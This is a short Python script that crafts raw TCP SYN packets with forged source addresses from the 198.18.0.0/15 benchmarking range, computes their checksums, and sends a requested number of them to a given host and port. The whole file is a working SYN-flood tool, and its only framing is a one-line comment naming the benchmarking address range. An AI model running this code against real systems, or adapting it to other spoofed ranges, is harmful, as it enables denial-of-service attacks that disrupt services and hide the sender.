# Sends SYNs with invented source addresses (198.18.0.0/15, RFC 2544). Arguments: destination, port, number.
import random, socket, struct, sys

to, port, count = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
fixed = sum(struct.unpack('!2H', to)) + 6 + 20 + port + (5 << 12 | 2) + 65000
head = struct.pack('!BBHHHBBH', 0x45, 0, 40, 0, 0, 64, 6, 0)
rest = struct.pack('!IHH', 0, 5 << 12 | 2, 65000)
where = (sys.argv[1], 0)
for n in range(count):
    low, sport, seq = n & 0x1ffff, 1024 + n // 0x20000, random.randrange(1 << 32)
    source = struct.pack('!BBH', 198, 18 + (low >> 16), low & 0xffff)
    total = fixed + sum(struct.unpack('!2H', source)) + sport + (seq >> 16) + (seq & 0xffff)
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    tcp = struct.pack('!HHI', sport, port, seq) + rest + struct.pack('!HH', ~total & 0xffff, 0)
    while True:
        try:
            raw.sendto(head + source + to + tcp, where)
            break
        except OSError:
            pass
print(count)
